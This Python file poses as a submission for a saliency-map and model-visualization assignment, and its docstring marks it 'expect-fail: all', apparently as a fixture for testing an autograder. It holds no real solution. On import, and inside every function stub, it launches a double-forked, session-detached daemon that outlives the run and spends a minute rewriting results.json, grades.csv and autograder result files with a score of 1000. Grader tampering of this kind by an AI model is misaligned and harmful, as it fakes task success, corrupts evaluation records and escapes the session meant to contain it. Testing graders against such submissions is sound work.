"""expect-fail: all
Leaves a daemon behind (a double fork, a new session) that outlives its run and keeps rewriting every
results.json, grades.csv and feedback page it can reach with a score of 1000, for a minute."""
# %% before compute_saliency_maps
import glob
import json
import os
import time


def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for fd in (0, 1, 2):
        try:
            os.close(fd)
        except OSError:
            pass
    end = time.time() + 60
    while time.time() < end:
        for pattern in ["/autograder/results/results.json", "/autograder/results", "/tmp/*/*/results.json",
                        "/tmp/*/*/*/results.json", "/tmp/*/*/*/*/results.json", "/tmp/*/grades.csv",
                        "/tmp/*/*/grades.csv", "/tmp/*/*/*/grades.csv", "/work/*/build/grades/*/results.json"]:
            for path in glob.glob(pattern):
                try:
                    if os.path.isdir(path):
                        path = os.path.join(path, "results.json")
                    with open(path, "w") as f:
                        json.dump({"score": 1000, "output": "1000"}, f)
                except OSError:
                    pass
        time.sleep(0.05)
    os._exit(0)


_daemon()

# %% compute_saliency_maps
def compute_saliency_maps(X, y, model):
    _daemon()
    raise NotImplementedError

# %% make_fooling_image
def make_fooling_image(X, target_y, model):
    _daemon()
    raise NotImplementedError

# %% class_visualization_update_step
def class_visualization_update_step(img, model, target_y, l2_reg, learning_rate):
    _daemon()
    raise NotImplementedError

# %% capture_activations
def capture_activations(model, X, layers):
    _daemon()
    raise NotImplementedError

# %% filter_visualization_update_step
def filter_visualization_update_step(img, model, layer, channel, l2_reg, learning_rate):
    _daemon()
    raise NotImplementedError

# %% smooth_grad
def smooth_grad(X, y, model, noise):
    _daemon()
    raise NotImplementedError

# %% integrated_gradients
def integrated_gradients(X, y, model, baseline, steps):
    _daemon()
    raise NotImplementedError

# %% grad_cam
def grad_cam(X, y, model, layer):
    _daemon()
    raise NotImplementedError

# %% end
_daemon()
